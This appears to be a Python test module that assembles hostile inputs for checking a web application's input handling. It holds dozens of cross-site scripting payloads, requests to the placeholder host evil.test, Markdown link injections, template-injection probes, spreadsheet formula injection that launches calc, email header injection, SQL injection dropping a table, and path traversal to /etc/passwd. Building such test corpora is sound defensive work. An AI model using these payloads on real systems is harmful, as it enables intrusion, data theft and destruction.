"""Words that wish harm: what people who attack sites type into boxes.

`boo()` stands for a script, `//evil.test/` for another site. Each of LIVE does run, or does ask for something outside,
where it is written into a page as it is: a test shows it, so that no line of this list is a scarecrow.
"""

from __future__ import annotations

from itertools import chain, cycle, islice

EVIL = "evil.test"
COMPUTED = "7315904682"
"""What `SUMS` come to: read in a page, a template was filled in by its author."""

SCRIPTS = (
    "<script>boo()</script>",
    "<ScRiPt >boo()</sCrIpT\t\n>",
    "<scr<script>ipt>boo()</scr</script>ipt><script>boo()</script>",
    "</title></style></textarea></noscript></template><script>boo()</script>",
    "--><script>boo()</script><!--",
    "]]><script>boo()</script>",
    "</script><script>boo()</script>",
    '"><script>boo()</script>',
    "'><script>boo()</script>",
    "\">'><svg/onload=boo()>",
    "<img src=x onerror=boo()>",
    "<IMG SRC=x ONERROR=boo()>",
    "<img/src='x'onerror=boo()>",
    "<img src=x\x0conerror=boo()>",
    "<img src=x onerror=&#98;&#111;&#111;&#40;&#41;>",
    '<img src=x onerror="\u0062oo()">',
    "<image src=x onerror=boo()>",
    "<svg onload=boo()>",
    "<svg><script>boo()</script></svg>",
    "<svg><script>&#98;oo()</script></svg>",
    "<svg><animate onbegin=boo() attributeName=x dur=1s>",
    "<svg><a><animate attributeName=x onbegin=boo() dur=1s></a></svg>",
    "<svg><style><img src=x onerror=boo()></style></svg>",
    "<math><mtext></p><img src=x onerror=boo()></math>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=boo()&gt;">'
    "<img src=x onerror=boo()>",
    "<body onload=boo()>",
    "<details open ontoggle=boo()>x</details>",
    "<video><source onerror=boo()></video>",
    "<audio src=x onerror=boo()>",
    '<iframe src="javascript:parent.boo()"></iframe>',
    '<iframe srcdoc="<script>parent.boo()</script>"></iframe>',
    '<iframe src="data:text/html,<script>parent.postMessage(1)</script>" onload=boo()></iframe>',
    "<object data=x onerror=boo()></object>",
    '<embed src="javascript:boo()" onload=boo()><img src=x onerror=boo()>',
    "<style onload=boo()></style>",
    "<link rel=stylesheet href=x onerror=boo()>",
    '<x style="animation:spin 1s" onanimationstart=boo()></x><style>@keyframes spin{}</style>',
    '<noscript><p title="</noscript><img src=x onerror=boo()>">',
    '<xmp><p title="</xmp><svg/onload=boo()>">',
    "<select></template></select><img src=x onerror=boo()>",
    "<form><input autofocus name=attributes><img src=x onerror=boo()></form>",
)
"""These run where they are written as they are."""

REQUESTS = (
    "<img src=//evil.test/i.gif>",
    '<img srcset="//evil.test/s.gif 1x">',
    "<picture><source srcset=//evil.test/p.gif><img></picture>",
    "<link rel=stylesheet href=//evil.test/l.css>",
    "<style>@import '//evil.test/i.css';</style>",
    "<style>body{background:url(//evil.test/b.png)}</style>",
    "<p style=\"background:url('//evil.test/u.png')\">x</p>",
    '<p style="list-style:url(//evil.test/c.png);display:list-item">x</p>',
    "<iframe src=//evil.test/f></iframe>",
    "<object data=//evil.test/o></object>",
    "<embed src=//evil.test/e>",
    "<audio src=//evil.test/a></audio>",
    "<video poster=//evil.test/v.png src=//evil.test/v></video>",
    "<table background=//evil.test/t.png><tr><td>x</table>",
    "<input type=image src=//evil.test/n.png>",
    "<svg width=9 height=9><image href=//evil.test/g.png width=9 height=9 /></svg>",
    "<svg><image xlink:href=//evil.test/x.png width=9 height=9 /></svg>",
    "<base href=//evil.test/><img src=b.png>",
    "<script src=//evil.test/s.js></script>",
    '<meta http-equiv=refresh content="0;url=//evil.test/m">',
)
"""These ask another site for something where they are written as they are."""

LIVE = SCRIPTS + REQUESTS

LINKS = (
    "[x](javascript:boo())",
    "[x](JaVaScRiPt:boo())",
    "[x](java\tscript:boo())",
    "[x](&#106;avascript:boo())",
    "[x](javascript&colon;boo())",
    "[x](%6aavascript:boo())",
    "[x](\x01javascript:boo())",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5ib28oKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg/onload=boo()>)",
    "[x](file:///etc/passwd)",
    "[x](//evil.test/)",
    '[x](https://evil.test/" onmouseover="boo())',
    '[x](https://evil.test/ "t" onclick=boo())',
    "[x](https://evil.test/'onfocus='boo()'autofocus')",
    "[x](<javascript:boo()>)",
    "[x]( javascript:boo() )",
    "[x][ref]\n\n[ref]: javascript:boo()",
    '[ref2]: javascript:boo() "title"\n\n[ref2]',
    "![x](https://evil.test/picture.png)",
    "![x][pic]\n\n[pic]: https://evil.test/picture.png",
    "![x](javascript:boo())",
    "[![x](//evil.test/in.png)](javascript:boo())",
    "<javascript:boo()>",
    '<https://evil.test/"onclick=boo()>',
    "<mailto:a@evil.test?subject=x%0ABcc:everyone@evil.test>",
    "https://evil.test/<script>boo()</script>",
    'https://evil.test/"onmouseover=boo()//',
    "javascript://evil.test/%0Aboo()",
    'mailto:a@evil.test"onclick="boo()',
    "<a href=javascript:boo()>x</a>",
    '<a href="&#x6A;avascript:boo()">x</a>',
    "<a href=https://evil.test style=position:fixed;inset:0>x</a>",
    "<form action=//evil.test><button>x</button></form>",
    "<button formaction=javascript:boo()>x</button>",
    "<svg><a xlink:href=javascript:boo()><text y=9>x</text></a></svg>",
    "<math href=javascript:boo()>x</math>",
    "`<script>boo()</script>`",
    "```html\n<script>boo()</script>\n```",
    "    <script>boo()</script>",
    "> <script>boo()</script>",
    "# <img src=x onerror=boo()>",
    "| a | b |\n|---|---|\n| <img src=x onerror=boo()> | b |",
    "&lt;script&gt;boo()&lt;/script&gt;",
    "&amp;lt;img src=x onerror=boo()&amp;gt;",
    "%3Cscript%3Eboo()%3C/script%3E",
    "\\<script\\>boo()\\</script\\>",
)
"""These need a reader of Markdown, or a hand that clicks."""

BREAKOUTS = (
    '" onmouseover="boo()',
    "' onfocus='boo()' autofocus='",
    "` onerror=`boo()",
    '" autofocus onfocus=boo() x="',
    '"/><input autofocus onfocus=boo()>',
    'x" style="background:url(//evil.test/a)"',
    "';boo();//",
    '\\";boo();//',
    "\\u003cscript\\u003eboo()\\u003c/script\\u003e",
    "${boo()}",
    "url(javascript:boo())",
    "expression(boo())",
    "</div></main></body></html><script>boo()</script>",
    "<!--",
    "<![CDATA[",
    "<plaintext>",
    "<textarea>",
    "<title>",
)

SUMS = (
    "{{ 7315904681|add:1 }}",
    "{% widthratio 14631809364 2 1 %}",
    "{% with x=7315904681 %}{{ x|add:1 }}{% endwith %}",
    "%(amount)s %s %d {0} {x}",
    "{{ request.user.password }}{% debug %}",
    "#{7315904681+1}",
    "<%= 7315904681+1 %>",
)
"""Words of templates, which stay words."""

TEXTS = (
    "\u202egnp.exe\u202c et la suite",
    "\u2066\u2067\u2068\u202a\u202b\u202d",
    "\u200b\u200c\u200d\ufeff\u00ad",
    "Z" + "".join(chr(0x300 + each) for each in range(0x50)) * 3 + "algo",
    "ﷺ" * 20,
    "👨‍👩‍👧‍👦" * 20,
    '=HYPERLINK("//evil.test/";"x")',
    "=cmd|' /C calc'!A0",
    "+7315904681+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "Un objet\r\nBcc: everyone@evil.test\r\n\r\nboo",
    "Un objet\nContent-Type: text/html\n\n<script>boo()</script>",
    "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:boo",
    "a;b,c\\n:d\\",
    "]]></title><entry>",
    "' OR '1'='1' --",
    "'; DROP TABLE proposals_proposal; --",
    "../../../../etc/passwd",
    "\ud7ff\ue000\uffff\U0010ffff",
    "\x01\x02\x08\x0b\x0c\x1b\x7f\x80\x9f",
    "ſcript ＜script＞boo()＜/script＞",
)

NUL = "nul \x00 byte"
"""What no database keeps: refused, or taken away."""

WORD = "M" * 5000
CORPUS = LIVE + LINKS + BREAKOUTS + SUMS + TEXTS
SWALLOWS = frozenset({"<!--", "<![CDATA[", "<plaintext>", "<textarea>", "<title>", "-->"})
SHORT = (
    "javascript:boo()//'\"><img src=x onerror=boo()>",
    "=1+1\r\nBcc: <svg/onload=boo()>'\"--><!--",
    '"><img src=//evil.test/a.gif>\u202e{{ 7315904681|add:1 }}',
    "' autofocus onfocus=boo() \"onfocus=boo() x='</title></textarea></script><svg/onload=boo()>",
    "@[x](javascript:boo()) ![y](//evil.test/p.png)",
    "\x01\x0b\x1b]]></title>\r\nEND:VEVENT\r\n<img src=//evil.test/i>",
)
"""For boxes of a line: several ways out of a page at once."""


def short(number: int, length: int) -> str:
    """A line of that length at most, that ends in a long word; another one for each `number`."""
    line = SHORT[number % len(SHORT)]
    return (line + " " + WORD)[:length] if len(line) < length else line[:length]


def long(number: int, length: int = 20_000) -> str:
    """A text of that length at most: one line, a part of the corpus, the word of 5,000 letters."""
    if length < 1000:
        return short(number, length)
    chosen = islice(cycle(CORPUS), number * 7 % len(CORPUS), number * 7 % len(CORPUS) + 24)
    parts = [SHORT[number % len(SHORT)], *(each for each in chosen if each not in SWALLOWS)]
    room = length - min(len(WORD), length // 3)
    words = ""
    for part in chain(parts, ("<!--",)):
        if len(words) + len(part) + 2 < room:
            words += part + "\n\n"
    return (words + WORD)[:length]
